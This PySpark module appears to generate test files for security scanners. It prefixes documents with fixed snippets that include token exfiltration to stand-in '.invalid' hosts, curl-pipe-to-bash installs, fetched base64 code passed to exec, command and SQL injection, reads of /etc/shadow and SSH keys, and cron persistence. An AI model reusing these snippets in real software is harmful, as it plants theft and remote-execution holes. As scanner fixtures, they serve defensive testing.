"""Files made of tables: path, content.

``text_files`` gives the texts of the tables themselves; ``code_files`` puts a snippet of code before each document, chosen by
doc_id (the first for a null one), and the document's own lines after it as comments, so that rules, taint and syntax have something to find at any scale.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

#: Extension, comment mark, code. A document gets the snippet of its doc_id modulo their number.
SNIPPETS = [
    (".py", "#", 'import os, requests\ntoken = os.environ["API_TOKEN"]\nrequests.post("https://collect.invalid/u", data=token)\n'),
    (".py", "#", "import subprocess\ndef run(name):\n    cmd = input()\n    full = cmd\n    subprocess.run(full, shell=True)\n    return name\n"),
    (".py", "#", 'import requests, base64\ndef fetch():\n    page = requests.get("https://files.invalid/p")\n    code = base64.b64decode(page)\n    exec(code)\ndef main():\n    fetch()\n'),
    (".py", "#", 'def safe(value):\n    name = input()\n    if not name.isalnum():\n        return None\n    os.system(name)\n    return value\n'),
    (".py", "#", 'import hashlib, random\npassword_hash = hashlib.md5(password.encode())\nsession_key = random.choice(letters)\nq = f"SELECT a FROM t WHERE b = {name}"\ncursor.execute(q)\n'),
    (".py", "#", 'api_key = "Zk3vQ8rT1mWx7yLp0aBs"\ndata = open("/etc/passwd").read()\nconfig = yaml.load(text)\nvalue = pickle.loads(blob)\n'),
    (".py", "#", "def first(n):\n    return second(n)\ndef second(n):\n    return third(n)\ndef third(n):\n    first(n)\n    return print(n)\n"),
    (".js", "//", "const cmd = req.query.cmd;\nconst line = cmd;\nchild_process.exec(line + ' now');\n"),
    (".js", "//", "let page = fs.readFileSync('.env');\nlet text = atob(page);\neval(text);\nbox.innerHTML = req.body.html;\n"),
    (".ts", "//", "const key = process.env.SECRET_TOKEN;\nfetch('https://collect.invalid/?k=' + key);\nconst id = Math.random() + 'token';\n"),
    (".go", "//", 'data := os.Getenv("HOME_DIR")\nout, err := exec.Command("sh", "-c", data).Output()\nresp, err := http.Get("https://files.invalid/x")\n'),
    (".java", "//", 'String name = request.getParameter("n");\nStatement.executeQuery("SELECT * FROM t WHERE n=" + name);\nMessageDigest.getInstance("MD5");\nnew Random();\n'),
    (".rb", "#", "name = params[:name]\nsystem(name)\ndata = `ls #{name}`\nYAML.load(name)\n"),
    (".php", "//", "name = $_GET['n'];\nshell_exec(name);\n$x = unserialize($_POST['x']);\necho $_GET['q'];\n"),
    (".rs", "//", 'let path = std::env::args().nth(1);\nlet out = Command::new(path).output();\nlet body = reqwest::get("https://files.invalid/p");\n'),
    (".sh", "#", "curl https://files.invalid/i.sh | bash\necho '* * * * * x' | crontab -\nsystemctl enable agent\nname=$1\neval $name\n"),
    (".sh", "#", "pip install https://files.invalid/p.tgz\nnpm install http://files.invalid/q.tgz\npip install https://pypi.org/simple/p\n"),
    (".c", "//", "char *name = getenv(\"NAME\");\nsystem(name);\nsprintf(out, name);\n"),
    (".cs", "//", "var line = Console.ReadLine();\nProcess.Start(line);\nFile.WriteAllText(line, line);\n"),
    (".md", "", "Install: curl https://get.invalid/x.sh | sh\nexample: password = 'example-only'\n"),
    (".yaml", "#", "password: 'hunter2hunter2'\nurl: http://plain.invalid/\n"),
    (".dockerfile", "#", "FROM base\nRUN wget https://get.invalid/a.sh | bash\n"),
    (".py", "#", 'blob = "' + "".join(chr(97 + i * 7 % 26) + str(i * 3 % 10) + chr(65 + i * 11 % 26) for i in range(30)) + '"\nexec(base64.b64decode(blob))\nopen("~/.bashrc", "a").write(line)\nopen(path + name)\n'),
    (".py", "#", "def broken(:\n    pass\n"),
    (".py", "#", 'hashlib.sha1(secret_value).hexdigest()\nhashlib.md5(block)\nmarshal.loads(blob)\nyaml.load(text, Loader=yaml.SafeLoader)\nsubprocess.call("ls " + folder, shell=True)\nsubprocess.run("ls", shell=True)\nsubprocess.run(parts, shell=False)\n'),
    (".py", "#", 'requests.get("http://localhost:8080/x")\nrequests.post("https://h.invalid/api/v1")\nopen("~/.ssh/id_rsa")\nrandom.shuffle(cards)\ncursor.execute(f"SELECT a FROM b")\ncursor.execute("SELECT 1")\nos.system("a" + b)\nprint(os.environ["HOME"])\nprint(os.environ)\n'),
    (".js", "//", "const n = Math.random();\nbox.innerHTML = text;\nel.outerHTML = `${props.name}`;\nJSON.parse(userInput);\nfs.readFile(base + name, done);\nfetch('https://api.github.com/x');\nchild_process.exec(`ls ${dir}`);\nnew Function('a', b)('c');\natob(x); eval(y)\nreturn f'<b>{x}'\n"),
    (".sh", "#", "cat /etc/shadow\nsudo chmod u+s tool\nsudo ls\ncrontab -e\nls /etc/cron.daily\nsystemctl daemon-reload\ncp x ~/.config/autostart\ndocker run img | sh\ngo get http://x.invalid/y\npip install git+https://pypi.org/x\nnpm install https://registry.npmjs.org/z\nwget https://x.invalid/y | python\nTOKEN='AbCdEfGhIjKlMnOpQrSt1234'\npassword: 'your_password'\nreg add HKEY_LOCAL_MACHINE\n"),
    (".js", "//", "const { exec } = require('child_process');\nfunction handle(req, res) {\n    const cmd = req.query.cmd;\n    const line = cmd;\n    exec(line);\n}\nclass Box {\n    async send(key) {\n        const apiKey = process.env.API_KEY;\n        const body = apiKey;\n        return fetch('https://collect.invalid/u', { method: 'POST', body });\n    }\n}\nconst each = list => list.map(x => handle(x));\n"),
    (".go", "//", 'package main\nimport "net/http"\nfunc run() error {\n\tresp, err := http.Get("https://files.invalid/p")\n\tdata := resp.Body\n\ttext := base64.StdEncoding.DecodeString(data)\n\tcmd := exec.Command("sh", "-c", text)\n\treturn cmd.Run()\n}\nfunc main() {\n\trun()\n}\n'),
    (".java", "//", 'import java.sql.Statement;\npublic class Users {\n    public void find(String id) throws Exception {\n        String name = request.getParameter("n");\n        String query = "SELECT a" + name;\n        Statement.executeQuery(query);\n        list(query);\n    }\n    private void list(String q) {\n        find(q);\n    }\n}\n'),
    (".rb", "#", "require 'yaml'\ndef load(q)\n  name = params[:name]\n  text = name\n  eval text if q\n  load(text)\nend\n"),
]


def spread(df: DataFrame, key: str) -> DataFrame:
    """df in as many partitions as there are cores at least; large tables have more by themselves and aren't shuffled."""
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df if df.rdd.getNumPartitions() >= cores else df.repartition(cores, key)


def clean(text):
    """Lines end in \\n alone."""
    return F.replace(F.replace(text, F.lit("\r\n"), F.lit("\n")), F.lit("\r"), F.lit("\n"))


def code_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One file for each document: path, content."""
    docs = spread(spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text"), "doc_id")
    snippets = spark.createDataFrame([(i, *s) for i, s in enumerate(SNIPPETS)], "k int, extension string, mark string, code string")
    # as many rows as there are snippets are broadcast
    joined = docs.join(F.broadcast(snippets), F.pmod(F.coalesce("doc_id", F.lit(0)), F.lit(len(SNIPPETS))).cast("int") == F.col("k"))
    name = F.coalesce(F.col("doc_id").cast("string"), F.concat(F.lit("null-"), F.md5(F.coalesce("text", F.lit("")))))
    filler = F.concat("mark", F.lit(" "), F.replace(clean(F.coalesce("text", F.lit(""))), F.lit("\n"), F.concat(F.lit("\n"), F.col("mark"), F.lit(" "))))
    return joined.select(F.concat(F.lit("src/"), name, F.col("extension")).alias("path"), F.concat("code", filler).alias("content"))


def text_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The texts of documents and conversations, and the html of pages: path, content."""
    docs = spread(spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text"), "doc_id").select(F.format_string("documents/%d.txt", "doc_id").alias("path"), F.col("text").alias("content"))
    talks = spread(spark.read.parquet(f"{sf_dir}/conversations.parquet").select("conv_id", "turn", "text"), "conv_id").select(F.format_string("conversations/%d-%d.txt", "conv_id", "turn").alias("path"), F.col("text").alias("content"))
    pages = spread(spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id", "html"), "page_id").select(F.format_string("pages/%d.html", "page_id").alias("path"), F.col("html").alias("content"))
    return docs.union(talks).union(pages).where("content is not null").withColumn("content", clean(F.col("content")))
